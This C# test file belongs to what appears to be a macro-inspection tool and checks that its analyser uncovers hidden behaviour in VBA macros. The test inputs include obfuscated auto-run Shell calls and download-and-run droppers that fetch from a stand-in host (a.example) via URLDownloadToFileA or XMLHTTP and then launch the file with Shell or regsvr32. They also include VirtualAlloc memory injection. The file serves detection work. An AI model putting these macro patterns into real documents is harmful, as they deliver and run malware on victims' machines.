using Postvakt.Documents.Basic;
using Postvakt.Documents.Inspecting;
using Postvakt.Documents.Kinds;
using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Basic;

public sealed class BasicAnalysisTests
{
    private static InspectedFile Follow(string source, bool isScript = false, Dictionary<string, string>? forms = null)
    {
        var file = new InspectedFile(null, "a.doc", 0, FileKind.Doc, "");
        BasicAnalysis.Read(file, [new BasicUnit("Module1.bas", source)], new Inspection(new InspectionOptions()), isScript, forms);
        return file;
    }

    private static string Command(string body, string more = "") => Assert.Single(Follow($"Sub AutoOpen()\r\n{body}\r\nEnd Sub\r\n{more}").Effects, e => e.Kind == EffectKind.Execute && !e.Dormant).Target;

    [Theory]
    [InlineData("Shell \"tool.exe /x\"")]
    [InlineData("Shell (\"tool.exe /x\")")]
    [InlineData("Shell (\"tool\" & \".exe\") & \" /x\", vbHide")]
    [InlineData("x = Shell(\"tool.exe /x\", 0)")]
    [InlineData("Call Shell(\"tool.exe /x\")")]
    [InlineData("VBA.Shell \"tool.exe /x\"")]
    [InlineData("VBA.Interaction.Shell \"tool.exe /x\"")]
    [InlineData("CreateObject(\"WScript.Shell\").Run \"tool.exe /x\", 0")]
    [InlineData("Set s = CreateObject(\"WScript\" & \".Shell\"): s.Exec \"tool.exe /x\"")]
    [InlineData("Dim s As New WshShell\r\ns.Run \"tool.exe /x\"")]
    [InlineData("With CreateObject(\"WScript.Shell\")\r\n.Run \"tool.exe /x\"\r\nEnd With")]
    [InlineData("GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"tool.exe /x\", Null, Null, pid")]
    [InlineData("GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create \"tool.exe /x\"")]
    [InlineData("CreateObject(\"Shell.Application\").ShellExecute \"tool.exe\", \"/x\"")]
    [InlineData("GetObject(\"new:13709620-C279-11CE-A49E-444553540000\").ShellExecute \"tool.exe\", \"/x\"")]
    [InlineData("CallByName CreateObject(\"WScript.Shell\"), \"R\" & \"un\", VbMethod, \"tool.exe /x\", 0")]
    [InlineData("Shell \"to\" + \"ol\" + \".exe\" _\r\n & \" /x\"")]
    [InlineData("Shell Chr(116) & ChrW(111) & Chr$(&H6F) & \"l.exe /x\"")]
    [InlineData("Shell StrReverse(\"x/ exe.loot\")")]
    [InlineData("Shell Replace(\"t##ool.e##xe /x\", \"##\", \"\")")]
    [InlineData("Shell Join(Array(\"tool\", \"exe /x\"), \".\")")]
    [InlineData("Shell Split(\"a|tool.exe /x|c\", \"|\")(1)")]
    [InlineData("Shell Mid(\"__tool.exe /x__\", 3, 11)")]
    [InlineData("a = \"tool\": b = a: a = \"no\": Shell b & \".exe /x\"")]
    [InlineData("Shell \"to\" & junk & \"ol\" & empt & \".exe /x\"")]
    [InlineData("Shell Decode(\"uppm/fyf!0y\")")]
    [InlineData("Dim r As String\r\nHelp r\r\nShell r")]
    [InlineData("For i = 1 To 3\r\ns = s & Choose(i, \"tool\", \".exe\", \" /x\")\r\nNext i\r\nShell s")]
    [InlineData("v = Array(116, 111, 111, 108, 46, 101, 120, 101, 32, 47, 120)\r\nFor Each c In v\r\ns = s & Chr(c)\r\nNext\r\nShell s")]
    [InlineData("i = 1\r\nDo While i <= 22\r\ns = s & Chr(Val(\"&H\" & Mid(\"746F6F6C2E657865202F78\", i, 2)))\r\ni = i + 2\r\nLoop\r\nShell s")]
    [InlineData("If Application.Version > 1 Then\r\nShell Part & \".exe /x\"\r\nElse\r\nBeep\r\nEnd If")]
    [InlineData("Select Case 2\r\nCase 1: Shell \"no\"\r\nCase 2: Shell \"tool.exe /x\"\r\nCase Else: Shell \"no\"\r\nEnd Select")]
    [InlineData("If 1 = 2 Then Shell \"no\" Else Shell \"tool.exe /x\"")]
    [InlineData("Application.Run \"Start\"")]
    [InlineData("Application.Run \"'\" & ThisWorkbook.Name & \"'!Module1.Start\"")]
    [InlineData("Interaction.Shell \"tool.exe /x\"")]
    [InlineData("Set c = New Module1\r\nc.Start")]
    [InlineData("Dim c As New Module1: c.Start")]
    [InlineData("Application.OnTime Now + TimeValue(\"00:00:05\"), \"Start\"")]
    public void Command_PutTogetherInAnyWay_IsPlain(string body)
    {
        const string More = """
            Const Tool = "tool"
            Function Part(): Part = Tool: End Function
            Function Decode(ByVal t As String) As String
                Dim i As Integer
                For i = 1 To Len(t)
                    Decode = Decode & Chr$(Asc(Mid$(t, i, 1)) - 1)
                Next i
            End Function
            Sub Help(ByRef x)
                x = "tool.exe /x"
            End Sub
            Private Sub Start()
                Shell "tool.exe /x"
            End Sub
            """;
        Assert.Equal("tool.exe /x", Command(body, More));
    }

    [Fact]
    public void Xor_DecoderWithKey_IsFollowed()
    {
        var hidden = string.Join(",", "http://a.example/b.exe".Select((c, i) => (c ^ "key"[i % 3]).ToString(System.Globalization.CultureInfo.InvariantCulture)));
        var source = $$"""
            Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
            Sub Workbook_Open()
                Dim parts, i, url, key
                key = "key"
                parts = Split("{{hidden}}", ",")
                For i = 0 To UBound(parts)
                    url = url & Chr(CLng(parts(i)) Xor Asc(Mid(key, (i Mod 3) + 1, 1)))
                Next
                Fetch 0, url, Environ("TEMP") & "\b.exe", 0, 0
                Shell Environ("TEMP") & "\b.exe", vbHide
            End Sub
            """;
        var file = Follow(source);
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Download && e.Target == "http://a.example/b.exe" && e.Other == @"%TEMP%\b.exe" && !e.Dormant);
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.CallLibrary && e.Target == "urlmon!URLDownloadToFileA");
        Assert.Contains(file.Links, l => l.Url == "http://a.example/b.exe");
    }

    [Fact]
    public void Request_SavedThroughAStream_IsADownloadToAPath()
    {
        var file = Follow("""
            Sub Document_Open()
                Set h = CreateObject("MSXML2.XMLHTTP.6.0")
                h.Open "GET", "http://a.example/x", False
                h.send
                Set s = CreateObject("ADODB.Stream")
                With s
                    .Type = 1
                    .Open
                    .Write h.responseBody
                    .SaveToFile Environ$("APPDATA") & "\x.dll", 2
                End With
                CreateObject("WScript.Shell").Run "regsvr32 /s " & Environ$("APPDATA") & "\x.dll", 0, False
            End Sub
            """);
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Download && e.Target == "http://a.example/x" && e.Other == @"%APPDATA%\x.dll");
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Execute && e.Target == @"regsvr32 /s %APPDATA%\x.dll");
    }

    [Fact]
    public void LongText_DecodedLetterByLetter_ComesOutWhole()
    {
        var plain = string.Concat(Enumerable.Repeat("tool.exe /x ", 600));
        var hidden = new string([.. plain.Select(c => (char)(c + 1))]);
        var file = Follow($"Function D(t)\r\nFor i = 1 To Len(t)\r\nD = D & Chr(Asc(Mid(t, i, 1)) - 1)\r\nNext\r\nEnd Function\r\nSub AutoOpen()\r\nShell D(\"{hidden}\")\r\nEnd Sub");
        Assert.Equal(plain[..2048], file.Effects.Single(e => e.Kind == EffectKind.Execute).Target);
    }

    [Fact]
    public void Base64_ThroughAnXmlElement_IsDecoded()
    {
        var encoded = Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes("tool.exe /x"));
        Assert.Equal("tool.exe /x", Command($"Set e = CreateObject(\"MSXML2.DOMDocument\").createElement(\"b\")\r\ne.DataType = \"bin.base64\"\r\ne.Text = \"{encoded}\"\r\nShell StrConv(e.nodeTypedValue, vbUnicode)"));
    }

    [Fact]
    public void FormValue_ThatIsKnown_IsUsed()
    {
        var file = Follow("Sub AutoOpen()\r\nShell UserForm1.Label1.Caption & UserForm1.Tag\r\nEnd Sub", forms: new() { ["UserForm1.Label1.Caption"] = "tool.exe ", ["UserForm1.Tag"] = "/x" });
        Assert.Contains(file.Effects, e => e.Target == "tool.exe /x");
    }

    [Fact]
    public void Code_ThatNothingLeadsTo_IsDormant()
    {
        var file = Follow("Sub Unused()\r\nShell \"tool.exe\"\r\nEnd Sub\r\nSub AutoOpen()\r\nKill \"a.txt\"\r\nEnd Sub");
        Assert.True(file.Effects.Single(e => e.Kind == EffectKind.Execute).Dormant);
        Assert.False(file.Effects.Single(e => e.Kind == EffectKind.DeleteFile).Dormant);
    }

    [Fact]
    public void Command_KnownInPart_ShowsWhatIsKnown()
    {
        Assert.Equal(@"tool.exe <ActiveDocument.path>\a.txt".ToLowerInvariant(), Command("Shell \"tool.exe \" & ActiveDocument.Path & \"\\a.txt\"").ToLowerInvariant());
    }

    [Fact]
    public void Script_OutsideOfProcedures_Runs()
    {
        var file = Follow("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c echo 1\", 0\nExecute(\"s.Run \"\"tool.exe\"\"\")", isScript: true);
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Execute && e.Target == "cmd /c echo 1" && !e.Dormant);
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Execute && e.Target == "tool.exe");
    }

    [Fact]
    public void MemoryMadeExecutable_IsInjection()
    {
        var file = Follow("""
            Private Declare PtrSafe Function VA Lib "kernel32" Alias "VirtualAlloc" (ByVal a As Long, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
            Private Declare PtrSafe Sub MC Lib "KERNEL32.DLL" Alias "RtlMoveMemory" (ByVal a As LongPtr, ByRef b As Any, ByVal c As Long)
            Sub AutoOpen()
                p = VA(0, 100, &H1000, &H40)
                MC p, 1, 1
            End Sub
            """);
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Inject && e.Target == "kernel32!VirtualAlloc");
    }

    [Theory]
    [InlineData("Do\r\ns = s & \"a\"\r\nLoop")]
    [InlineData("While True\r\ns = s & s & \"ab\"\r\nWend\r\nShell s")]
    [InlineData("For i = 1 To 2000000000\r\nx = x & Chr(i Mod 99)\r\nNext")]
    [InlineData("AutoOpen")]
    [InlineData("s = String(2000000000, \"a\"): Shell s & s")]
    [InlineData("Dim a(2000000000)\r\nReDim b(2147483647)")]
    [InlineData("Shell Space(1e300) & Mid(\"a\", 1e300, -1) & Chr(1e9) & Left(\"a\", -5)")]
    [InlineData("x = 1 / 0: x = 5 Mod 0: x = 5 \\ 0: x = 2 ^ 99999: x = CLng(1e300): x = Hex(1e300): x = -(-2147483648)")]
    public void Code_WithoutEnd_IsLeft(string body)
    {
        var inspection = new Inspection(new InspectionOptions { Limits = new InspectionLimits { Time = TimeSpan.FromSeconds(60) } });
        var file = new InspectedFile(null, "a.doc", 0, FileKind.Doc, "");
        BasicAnalysis.Read(file, [new BasicUnit("a", $"Sub AutoOpen()\r\n{body}\r\nKill \"end.txt\"\r\nShell 1\r\nEnd Sub")], inspection, isScript: false);
        Assert.True(file.Effects.Count <= 20);
    }

    [Fact]
    public void Code_OfMoreWordsThanAnyMacro_IsLeftIncomplete()
    {
        var source = "Sub AutoOpen()\nShell \"b.exe\"\nEnd Sub\n" + string.Concat(Enumerable.Repeat("a a a a a\n", 180_000));
        var file = DocumentInspector.Inspect("vbaProject.bin", new CompoundFileWriter(4).Stream("VBA/dir", OvbaWriter.Compress(new VbaProjectWriter().Raw("M", "", []).Dir()))
            .Stream("VBA/M", Raw(source)).ToArray(), new InspectionOptions()).Root;
        Assert.Contains(file.Findings, f => f.Kind == FindingKinds.AnalysisIncomplete);
        Assert.Single(file.Modules);
    }

    /// <summary>A container of chunks that are not compressed.</summary>
    private static byte[] Raw(string source)
    {
        var packed = new MemoryStream();
        packed.WriteByte(1);
        foreach (var chunk in System.Text.Encoding.ASCII.GetBytes(source).Chunk(4096))
        {
            packed.Write([0xFF, 0x3F]);
            packed.Write(chunk);
            packed.Write(new byte[4096 - chunk.Length]);
        }
        return packed.ToArray();
    }

    [Theory]
    [InlineData("(", 100_000)]
    [InlineData("\nIf a Then\n", 100_000)]
    [InlineData("If a Then ", 100_000)]
    [InlineData("x = Not Not ", 60_000)]
    [InlineData("ByVal ", 100_000)]
    [InlineData("\nPrivate Private ", 60_000)]
    [InlineData(" Private", 100_000)]
    [InlineData("New ", 100_000)]
    [InlineData("-", 100_000)]
    [InlineData("a.", 100_000)]
    [InlineData("a(1)", 60_000)]
    [InlineData("#", 100_000)]
    [InlineData("a.b(", 3000)]
    [InlineData("With a\nFor i = 1 To 2\nSelect Case 1\nCase 1\nDo\n", 800)]
    [InlineData("Sub a()\n", 800)]
    [InlineData("& \"a\" ", 60000)]
    public void Code_NestedBeyondReason_IsRead(string piece, int count)
    {
        var source = "Sub AutoOpen()\nShell \"a\" & " + string.Concat(Enumerable.Repeat(piece, count)) + "\nShell \"b.exe\"\n";
        var inspection = new Inspection(new InspectionOptions());
        DocumentInspector.Inspect("vbaProject.bin", new VbaProjectWriter().Module("M", source).ToArray(), inspection);
        Assert.Empty(inspection.Mistakes);
    }
}
